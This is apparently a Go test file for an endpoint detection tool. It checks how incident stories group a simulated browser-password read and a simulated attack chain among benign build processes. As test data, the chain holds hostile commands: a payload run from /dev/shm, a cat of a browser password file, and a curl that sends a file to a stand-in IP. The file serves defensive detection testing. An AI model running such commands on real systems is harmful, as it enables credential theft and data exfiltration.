package incident_test

import (
	"fmt"
	"strconv"
	"strings"
	"testing"

	"golang.org/x/tools/txtar"

	"github.com/yagura-edr/yagura/internal/detection"
	"github.com/yagura-edr/yagura/internal/event"
)

// chains reads the processes of testdata/NAME.txtar, whose head says how they are written.
func chains(t *testing.T, name string) map[string]string {
	t.Helper()
	a, err := txtar.ParseFile("testdata/" + name + ".txtar")
	if err != nil {
		t.Fatal(err)
	}
	out := map[string]string{}
	for _, f := range a.Files {
		out[f.Name] = string(f.Data)
	}
	return out
}

// chain starts processes, each by the one above it, and gives the name of the last.
func (tp *tape) chain(t *testing.T, lines string) string {
	t.Helper()
	last, up := "init", ""
	for i, l := range strings.Split(strings.TrimSpace(lines), "\n") {
		verb, rest, _ := strings.Cut(l, " ")
		first, second, _ := strings.Cut(rest, " ")
		name, pid := fmt.Sprint("chain", i), uint64(60+i)
		switch verb {
		case "start":
			tp.start(name, last, pid, first, second)
			last, up = name, last
		case "running":
			tp.running(name, last, pid, first, second)
			last, up = name, last
		case "fork":
			tp.fork(name, last, pid)
			last, up = name, last
		case "beside":
			tp.start(name, up, pid, first, second)
			tp.pipe(last, name)
		case "tty":
			tp.procs[last].TTY = rest
		case "wait":
			seconds, _ := strconv.ParseFloat(rest, 64)
			tp.wait(seconds)
		case "accept":
			tp.net(event.NetAccept, last, first, second)
		case "listen":
			tp.net(event.NetListen, last, first, "0.0.0.0:0")
		case "connect":
			tp.connect(last, first)
		default:
			t.Fatalf("%q is no step", l)
		}
	}
	return last
}

// What runs the programs beside one odd one, however it does it, makes no long story of it.
func TestOddActStaysSmallUnderEveryRunner(t *testing.T) {
	for name, runner := range chains(t, "runners") {
		for _, deep := range []bool{false, true} {
			tp := newTape(hostA)
			parent := tp.chain(t, runner)
			odd := parent
			if deep { // each program in a shell of its own, as make and CI steps do
				for i := range 120 {
					sh := fmt.Sprint("sh", i)
					tp.start(sh, parent, uint64(5000+i), "/usr/bin/dash", "/bin/sh -c cc -o x; ld")
					tp.like(2, sh, uint64(7000+2*i), "/usr/bin/cc", "cc -o x")
				}
				tp.start("oddsh", parent, 899, "/usr/bin/dash", "/bin/sh -c cat x")
				odd = "oddsh"
			} else {
				tp.like(120, parent, 1000, "/usr/bin/stat", "stat -c %Y /srv/app")
			}
			tp.start("odd", odd, 900, "/usr/bin/cat", "cat "+passwords)
			tp.detect(tp.reads("odd", passwords), "browser passwords read", detection.High, "T1555.003")
			tp.like(120, parent, 2000, "/usr/bin/stat", "stat -c %Y /srv/app")
			s := tp.story()
			if n := processes(s); n > 20 {
				t.Errorf("%s (shells between: %v): %d processes are shown; want 20 at most", name, deep, n)
			}
			wantMembers(t, tp, s, []string{"odd"}, nil)
		}
	}
}

// And an attack inside keeps its parts.
func TestAttackUnderEveryRunnerIsWhole(t *testing.T) {
	for name, runner := range chains(t, "runners") {
		for _, mixed := range []bool{false, true} {
			tp := newTape(hostA)
			parent := tp.chain(t, runner)
			tp.like(120, parent, 1000, "/usr/bin/stat", "stat -c %Y /srv/app")
			tp.download(parent, func() {
				if mixed {
					tp.like(60, parent, 3000, "/usr/bin/stat", "stat -c %Y /srv/app")
				}
			})
			tp.detect(tp.startFile("payload", parent, 903, "/dev/shm/k", "/dev/shm/k", "77"), "program run from memory", detection.High, "T1059.004")
			tp.start("sh", "payload", 904, "/usr/bin/dash", "sh -c id")
			tp.start("cat", "sh", 905, "/usr/bin/cat", "cat "+passwords)
			tp.detect(tp.reads("cat", passwords), "browser passwords read", detection.High, "T1555.003")
			tp.start("post", parent, 906, "/usr/bin/curl", "curl --data-binary @/tmp/o http://203.0.113.9/")
			tp.detect(tp.connect("post", "203.0.113.9:80"), "file sent", detection.Medium)
			tp.like(120, parent, 2000, "/usr/bin/stat", "stat -c %Y /srv/app")
			s := tp.story()
			wantMembers(t, tp, s, []string{"curl", "chmod", "payload", "sh", "cat", "post"}, nil)
			if n := processes(s); n > 20 {
				t.Errorf("%s (mixed %v): %d processes", name, mixed, n)
			}
			if t.Failed() {
				t.Fatal(name)
			}
		}
	}
}
